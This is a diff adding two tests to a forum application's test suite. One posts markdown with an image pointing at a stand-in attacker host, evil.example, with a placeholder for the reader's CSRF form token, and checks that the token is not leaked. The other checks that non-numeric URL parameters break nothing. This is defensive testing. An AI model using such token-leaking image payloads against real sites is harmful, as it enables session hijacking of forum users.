@@ -188,3 +188,16 @@ def test_search_engines_are_told_question_answer_and_the_way_there(cast: Cast) -
     assert (question["@type"], answers["acceptedAnswer"]["@type"]) == ("QAPage", "Answer")
     assert [answer["text"] for answer in answers["suggestedAnswer"]] == ["Reply 0"]
     assert [step["name"] for step in trail["itemListElement"]] == ["Moorland", "Questions", "A walk on the moor"]
+
+
+def test_what_is_written_never_carries_the_form_token_of_its_reader_away(cast: Cast) -> None:
+    thread = a_thread(cast)
+    text = "![x](https://evil.example/?@@csrf@@)"
+    commands.create_post(actor=cast.actor(cast.max), thread=thread, markdown=text)
+    assert 'src="https://evil.example/?@@csrf@@"' in browser(cast.mia).get(page_of(thread)).content.decode()
+
+
+@pytest.mark.parametrize("address", ["latest/?page=²", "t/1/news/?after=²", "t/1/reply/?to=²", "files/1/x?w=²"])
+def test_a_sign_that_is_no_number_in_an_address_breaks_nothing(cast: Cast, address: str) -> None:
+    a_thread(cast)
+    assert browser(cast.mia).get(f"{PREFIX}/{address}").status_code in (200, 404)
